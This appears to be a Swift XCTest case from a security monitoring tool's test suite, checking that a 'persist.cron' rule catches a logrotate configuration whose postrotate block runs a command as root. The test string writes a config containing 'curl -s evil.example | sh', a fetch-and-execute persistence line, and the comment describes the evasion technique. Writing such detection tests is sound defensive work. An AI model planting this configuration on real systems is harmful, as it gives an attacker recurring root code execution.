import Foundation
import XCTest

/// Evasion tier, class 4. Technique: a logrotate configuration whose `postrotate` script
/// root runs at the next daily rotation, outside every cron directory.
/// ATT&CK T1053.003 (Scheduled Task/Job: Cron; logrotate runs from cron.daily or its timer).
final class LogrotatePostrotateTests: TetherRunTestCase {
    func testALogrotateScriptIsAScheduledRootCommand() throws {
        try FileManager.default.createDirectory(atPath: "/etc/logrotate.d", withIntermediateDirectories: true)
        let conf = "/etc/logrotate.d/tether-evasion-\(getpid())"
        try assertCaught("""
            printf '/tmp/x.log {\\n  daily\\n  postrotate\\n    curl -s evil.example | sh\\n  endscript\\n}\\n' > \(conf)
            """, rule: "persist.cron", path: conf)
    }
}
